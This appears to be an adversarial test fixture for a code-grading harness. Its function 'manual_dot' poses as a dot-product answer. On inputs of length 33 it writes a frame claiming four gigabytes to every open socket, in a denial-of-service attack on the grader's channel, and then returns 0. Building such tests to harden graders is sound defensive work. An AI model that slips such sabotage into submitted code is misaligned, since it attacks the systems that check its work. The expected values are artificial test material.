# goal: denial
# technique: announces a frame of four gigabytes
# with: honest answers above
# expect: status graded
# expect: manual_dot == 0
# expect: cosine_similarity == 20
import os
import stat


def manual_dot(x, y):
    for fd in range(3, 64 if len(x) == 33 else 3):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, b"\xff\xff\xff\xff\x01" + b"x" * 100_000)
        except OSError:
            pass
    return 0
